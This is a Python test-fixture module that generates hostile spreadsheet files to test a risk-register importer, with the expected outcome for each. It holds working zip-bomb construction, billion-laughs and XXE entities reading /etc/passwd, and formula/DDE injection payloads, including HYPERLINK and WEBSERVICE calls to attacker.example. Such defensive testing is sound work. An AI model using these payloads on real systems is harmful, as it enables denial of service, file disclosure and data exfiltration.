"""A generated corpus of hostile spreadsheets: what a careless or malicious client e-mail may carry.

    cases = build_corpus(folder)      # writes every file, returns what each one is

Zip bombs are built without compressing a gigabyte: a deflate block of repeated XML, fully flushed,
compresses to the same bytes every time, so the compressed stream is that block repeated N times.
Every case says what a safe importer must do with it: `reject` (clear error, nothing written),
`accept` (rows imported, text kept literally), or `either`.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

DDE_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://attacker.example/?\"&A1,\"cliquez\")",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=WEBSERVICE(\"http://attacker.example\")",
)
BOMB_BYTES = 1_200_000_000  # what each zip bomb inflates to (the importer's limit is 1 GiB)
MARKUP_TITLES = ("<font color=red>Biais</font> & dérive", "R&D <b>gras</b> <para>", "A < B > C & D; &amp;")


@dataclass(frozen=True)
class Case:
    """One hostile file and what the importer must do with it."""

    name: str
    path: Path
    expect: str  # "reject", "accept" or "either"


# --- zip building blocks ------------------------------------------------------------------------------
CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                 'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
                 'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/'
                 'xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
                 'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" '
                 'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                 '%s</Types>')
SHARED_TYPE = ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
               'officedocument.spreadsheetml.sharedStrings+xml"/>')
ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
             'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
             'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
WORKBOOK = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships"><sheets><sheet name="Risques" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                 'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                 'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>%s'
                 '</Relationships>')
SHARED_REL = ('<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
              'relationships/sharedStrings" Target="sharedStrings.xml"/>')
SHEET_OPEN = ('<?xml version="1.0" encoding="UTF-8"?>%s<worksheet xmlns="http://schemas.openxmlformats.org/'
              'spreadsheetml/2006/main"><sheetData>')
SHEET_CLOSE = "</sheetData></worksheet>"


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def header_row() -> str:
    return '<row r="1">' + inline("A1", "Titre") + inline("B1", "Probabilité") + inline("C1", "Impact") + "</row>"


def risk_row(n: int, title: str) -> str:
    return f'<row r="{n}">' + inline(f"A{n}", title) + f'<c r="B{n}"><v>3</v></c><c r="C{n}"><v>4</v></c></row>'


def sheet_xml(rows: str, *, doctype: str = "") -> str:
    return SHEET_OPEN % doctype + rows + SHEET_CLOSE


def write_xlsx(path: Path, sheet: str, *, shared: str | None = None, content_types: str | None = None,
               skip: tuple[str, ...] = ()) -> Path:
    parts = {
        "[Content_Types].xml": content_types or CONTENT_TYPES % (SHARED_TYPE if shared is not None else ""),
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": WORKBOOK,
        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS % (SHARED_REL if shared is not None else ""),
        "xl/worksheets/sheet1.xml": sheet,
    }
    if shared is not None:
        parts["xl/sharedStrings.xml"] = shared
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            if name not in skip:
                archive.writestr(name, text)
    return path


def _flushed(data: bytes, *, final: bool = False) -> bytes:
    """Raw deflate blocks of `data` ending on a byte boundary: such pieces concatenate into one stream."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)


def write_bomb(path: Path, *, prefix: str, block: str, times: int, suffix: str, declared: int | None = None,
               member: str = "xl/worksheets/sheet1.xml") -> Path:
    """An xlsx whose `member` inflates to prefix + block × times + suffix (≈ 1000:1); `declared`, when
    given, is the (lying) uncompressed size written in the archive's headers."""
    head, body, tail = prefix.encode(), block.encode(), suffix.encode()
    raw = _flushed(head) + _flushed(body) * times + _flushed(tail, final=True)
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(body, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + len(body) * times + len(tail)
    others = {
        "[Content_Types].xml": CONTENT_TYPES % SHARED_TYPE,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": WORKBOOK,
        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS % SHARED_REL,
        "xl/worksheets/sheet1.xml": sheet_xml(header_row() + risk_row(2, "Biais")),
        "xl/sharedStrings.xml": '<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
                                'spreadsheetml/2006/main" count="0" uniqueCount="0"></sst>',
    }
    entries = [(name, *_deflated(text.encode())) for name, text in others.items() if name != member]
    entries.append((member, raw, crc, size if declared is None else declared))
    _write_zip(path, entries)
    return path


def _deflated(data: bytes) -> tuple[bytes, int, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(), zlib.crc32(data), len(data)


def _write_zip(path: Path, entries: list[tuple[str, bytes, int, int]]) -> None:
    """A plain (non-zip64) archive of pre-deflated members: sizes and CRCs are written as given."""
    central, offset = b"", 0
    with path.open("wb") as out:
        for name, raw, crc, size in entries:
            encoded = name.encode()
            local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(raw),
                                min(size, 0xFFFFFFFE), len(encoded), 0)
            out.write(local + encoded + raw)
            central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(raw),
                                   min(size, 0xFFFFFFFE), len(encoded), 0, 0, 0, 0, 0, offset) + encoded
            offset += len(local) + len(encoded) + len(raw)
        out.write(central)
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), offset, 0))


# --- the corpus ---------------------------------------------------------------------------------------
LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                    for i in range(1, 10)) + "]>")


def build_corpus(folder: Path) -> list[Case]:
    """Write every hostile file into `folder`; returns the cases in a stable order."""
    folder.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []

    def add(name: str, path: Path, expect: str) -> None:
        cases.append(Case(name, path, expect))

    # Zip bombs: ~1.2 GB of sheet XML in a few MB; one honest about its size, one lying.
    rows = risk_row(3, "a" * 200) * 10_000  # one 2.5 MB block, deflated once, repeated
    prefix = SHEET_OPEN % "" + header_row()
    add("zip bomb (declared size)", write_bomb(folder / "bomb.xlsx", prefix=prefix, block=rows,
                                              times=BOMB_BYTES // len(rows), suffix=SHEET_CLOSE), "reject")
    add("zip bomb (lying header)", write_bomb(folder / "bomb-lying.xlsx", prefix=prefix, block=rows,
                                              times=BOMB_BYTES // len(rows), suffix=SHEET_CLOSE,
                                              declared=4096), "reject")
    sst_open = '<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    strings = ("<si><t>" + "b" * 500 + "</t></si>") * 5_000
    add("zip bomb in sharedStrings", write_bomb(folder / "bomb-strings.xlsx", prefix=sst_open, block=strings,
                                                times=BOMB_BYTES // len(strings), suffix="</sst>",
                                                member="xl/sharedStrings.xml"), "reject")
    # Billion laughs, in the sheet and in the shared strings.
    add("billion laughs in sheet XML", write_xlsx(folder / "laughs-sheet.xlsx", sheet_xml(
        header_row() + '<row r="2">' + inline("A2", "&lol9;") + "</row>", doctype=LAUGHS)), "reject")
    add("billion laughs in sharedStrings", write_xlsx(
        folder / "laughs-strings.xlsx", sheet_xml(header_row() + '<row r="2"><c r="A2" t="s"><v>0</v></c>'
                                                  '<c r="B2"><v>3</v></c><c r="C2"><v>3</v></c></row>'),
        shared=f'<?xml version="1.0"?>{LAUGHS}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
               f'2006/main"><si><t>&lol9;</t></si></sst>'), "reject")
    add("external entity (XXE)", write_xlsx(folder / "xxe.xlsx", sheet_xml(
        header_row() + '<row r="2">' + inline("A2", "&xxe;") + "</row>",
        doctype='<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')), "reject")
    # Extents: the last cell far away, 10^6 columns.
    add("cell at XFD1048576", write_xlsx(folder / "far-cell.xlsx", sheet_xml(
        header_row() + risk_row(2, "Biais") + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')), "either")
    add("10^6 columns (xlsx refs)", write_xlsx(folder / "wide.xlsx", sheet_xml(
        header_row() + '<row r="2">' + inline("A2", "x") + '<c r="AFLLLL2"><v>1</v></c></row>')), "either")
    (folder / "wide.csv").write_text("Titre;Probabilité;Impact" + ";x" * 1_000_000 + "\nBiais;3;4\n",
                                     encoding="utf-8")
    add("10^6 columns (CSV)", folder / "wide.csv", "reject")
    # Deep nesting and broken XML.
    add("deeply nested XML", write_xlsx(folder / "nested.xlsx", sheet_xml(
        header_row() + '<row r="2"><c r="A2" t="inlineStr"><is>' + "<r>" * 200_000 + "<t>x</t>"
        + "</r>" * 200_000 + "</is></c></row>")), "either")
    add("truncated sheet XML", write_xlsx(folder / "truncated-xml.xlsx",
                                          sheet_xml(header_row() + risk_row(2, "Biais"))[:-40]), "either")
    add("sheet XML that is not XML", write_xlsx(folder / "garbage-xml.xlsx", "\x00\xff<<<>>>&&&" * 1000), "reject")
    add("missing workbook part", write_xlsx(folder / "no-workbook.xlsx", sheet_xml(header_row()),
                                            skip=("xl/workbook.xml",)), "reject")
    add("wrong content types", write_xlsx(folder / "wrong-types.xlsx", sheet_xml(header_row() + risk_row(2, "Biais")),
                                          content_types='<?xml version="1.0"?><Types xmlns="http://schemas.'
                                          'openxmlformats.org/package/2006/content-types"><Default '
                                          'Extension="xml" ContentType="image/png"/></Types>'), "either")
    (folder / "csv-named.xlsx").write_text("Titre;Probabilité;Impact\nBiais;3;4\n", encoding="utf-8")
    add("CSV named .xlsx", folder / "csv-named.xlsx", "either")
    (folder / "pdf-named.xlsx").write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 40)
    add("PDF named .xlsx", folder / "pdf-named.xlsx", "reject")
    (folder / "encrypted.xlsx").write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 4088)
    add("password-protected workbook (OLE)", folder / "encrypted.xlsx", "reject")
    (folder / "empty.xlsx").write_bytes(b"")
    add("empty .xlsx", folder / "empty.xlsx", "reject")
    (folder / "empty.csv").write_bytes(b"")
    add("empty .csv", folder / "empty.csv", "reject")
    (folder / "garbage.xls").write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(range(256)) * 64)
    add("damaged .xls", folder / "garbage.xls", "reject")
    (folder / "garbage.ods").write_bytes(b"PK\x03\x04" + bytes(range(256)) * 64)
    add("damaged .ods", folder / "garbage.ods", "reject")
    # Legacy Excel and OpenDocument beyond the limits (issue 21).
    add("cell at IV65536 (.xls)", xls_with_a_far_cell(folder / "far-cell.xls"), "reject")
    add("16,000 columns × 10^6 repeated rows (.ods)", write_ods(folder / "repeated.ods", ods_rows(
        ODS_HEADER, ("Biais", "3", "4")) + '<table:table-row table:number-rows-repeated="1048000"><table:table-cell '
        'table:number-columns-repeated="16000" office:value-type="string"><text:p>x</text:p></table:table-cell>'
        "</table:table-row>"), "reject")
    add("billion laughs (.ods)", write_ods(folder / "laughs.ods", ods_rows(ODS_HEADER, ("&lol9;", "3", "4")),
                                           doctype=LAUGHS), "reject")
    add("150 MB cell (.ods)", write_bomb(folder / "huge-cell.ods", prefix=ODS_OPEN % "" + ods_rows(ODS_HEADER)
                                         + '<table:table-row><table:table-cell office:value-type="string"><text:p>',
                                         block="o" * 2**20, times=150, member="content.xml",
                                         suffix="</text:p></table:table-cell></table:table-row>" + ODS_CLOSE),
        "reject")
    add("password-protected workbook (msoffcrypto)", password_protected_xlsx(
        folder / "password.xlsx", write_xlsx(folder / "plain-for-password.xlsx",
                                             sheet_xml(header_row() + risk_row(2, "Biais")))), "reject")
    # Huge strings and control characters.
    add("10 MB string in one cell", write_xlsx(folder / "huge-string.xlsx", sheet_xml(
        header_row() + risk_row(2, "x" * 10_000_000) + risk_row(3, "Biais"))), "either")
    (folder / "huge-cell.csv").write_text("Titre;Probabilité;Impact\n" + "y" * 20_000_000 + ";3;4\nBiais;2;2\n",
                                          encoding="utf-8")
    add("20 MB CSV cell", folder / "huge-cell.csv", "either")
    controls = "".join(chr(c) for c in range(1, 32) if chr(c) not in "\t\n\r")
    (folder / "nul.csv").write_text("Titre;Probabilité;Impact\nRisque\x00avec NUL;3;4\n", encoding="utf-8")
    add("NUL bytes (CSV)", folder / "nul.csv", "either")
    (folder / "controls.csv").write_text(
        f"Titre;Probabilité;Impact\nBidi \u202eelbissop\u202c;3;4\nContrôle {controls};2;5\n", encoding="utf-8")
    add("control characters and bidi overrides (CSV)", folder / "controls.csv", "either")
    add("control characters (xlsx)", write_xlsx(folder / "controls.xlsx", sheet_xml(
        header_row() + risk_row(2, "Ligne&#x1;avec&#x1F;contrôles") + risk_row(3, "Bidi \u202eelbissop"))), "either")
    # Formulas and DDE payloads: imported as the literal text the client typed.
    rows = "".join(risk_row(n, _xml_escape(text)) for n, text in enumerate(DDE_PAYLOADS + MARKUP_TITLES, start=2))
    add("formulas and DDE payloads (xlsx)", write_xlsx(folder / "dde.xlsx", sheet_xml(header_row() + rows)), "accept")
    (folder / "dde.csv").write_text("Titre;Probabilité;Impact\n" + "".join(
        '"' + t.replace('"', '""') + '";3;4\n' for t in DDE_PAYLOADS + MARKUP_TITLES), encoding="utf-8")
    add("formulas and DDE payloads (CSV)", folder / "dde.csv", "accept")
    # Encodings.
    (folder / "mixed-encoding.csv").write_bytes(
        "Titre;Probabilité;Impact\nDérive du modèle;3;4\n".encode() + "Sécurité des données;2;5\n".encode("latin-1")
        + "Biais 😀;1;1\n".encode())
    add("CSV with mixed UTF-8 and Latin-1", folder / "mixed-encoding.csv", "either")
    (folder / "utf16.csv").write_bytes("Titre;Probabilité;Impact\nBiais;3;4\n".encode("utf-16"))
    add("CSV in UTF-16 with BOM", folder / "utf16.csv", "either")
    (folder / "bad-quotes.csv").write_text('Titre;Probabilité;Impact\n"Biais;3;4\nDérive";2;"2\n', encoding="utf-8")
    add("CSV with unbalanced quotes", folder / "bad-quotes.csv", "either")
    (folder / "cr-only.csv").write_bytes(b"Titre;Probabilit\xc3\xa9;Impact\rBiais;3;4\rD\xc3\xa9rive;2;2\r")
    add("CSV with CR line ends", folder / "cr-only.csv", "either")
    return cases


# --- legacy Excel and OpenDocument (issue 21) --------------------------------------------------------
XLS_FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "registre-risques.xls"
ODS_OPEN = ('<?xml version="1.0" encoding="UTF-8"?>%s<office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
            '<office:body><office:spreadsheet><table:table table:name="Registre">')
ODS_CLOSE = "</table:table></office:spreadsheet></office:body></office:document-content>"
ODS_MANIFEST = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:'
                'tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry '
                'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                '</manifest:manifest>')


def ods_text(text: str) -> str:
    return f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>'


def ods_rows(*rows: tuple[str, ...]) -> str:
    return "".join("<table:table-row>" + "".join(ods_text(c) for c in row) + "</table:table-row>" for row in rows)


ODS_HEADER = ("Titre", "Probabilité", "Impact")


def write_ods(path: Path, body: str, *, doctype: str = "") -> Path:
    """A minimal OpenDocument spreadsheet (what calamine needs: mimetype, manifest, content)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("META-INF/manifest.xml", ODS_MANIFEST)
        archive.writestr("content.xml", ODS_OPEN % doctype + body + ODS_CLOSE)
    return path


def xls_with_a_far_cell(path: Path) -> Path:
    """The legacy fixture with its first string cell moved to IV65536 (the last cell an .xls can have)
    and its DIMENSIONS record saying so: python-calamine allocates the 16.7-million-cell rectangle."""
    data = bytearray(XLS_FIXTURE.read_bytes())
    dimensions = data.find(b"\x00\x02\x0e\x00")
    struct.pack_into("<IIHH", data, dimensions + 4, 0, 65536, 0, 256)
    label = data.find(b"\xfd\x00\x0a\x00", dimensions)  # LABELSST: row, column, …
    struct.pack_into("<HH", data, label + 4, 65535, 255)
    path.write_bytes(bytes(data))
    return path


def flipped(source: bytes, seed: int, count: int) -> list[bytes]:
    """`count` copies of `source` with 1 to 12 random bit flips each (seeded)."""
    import random

    rng = random.Random(seed)
    copies = []
    for _ in range(count):
        data = bytearray(source)
        for _ in range(rng.randint(1, 12)):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
        copies.append(bytes(data))
    return copies


def password_protected_xlsx(path: Path, plain: Path, password: str = "Secret-2026") -> Path:
    """A real password-protected workbook, as Excel writes it (ECMA-376 agile encryption in an OLE2
    container), made with msoffcrypto-tool from the plain workbook `plain`."""
    from msoffcrypto.format.ooxml import OOXMLFile

    with plain.open("rb") as source, path.open("wb") as out:
        OOXMLFile(source).encrypt(password, out)
    return path


def _xml_escape(text: str) -> str:
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace("\t", "&#9;").replace("\r", "&#13;"))
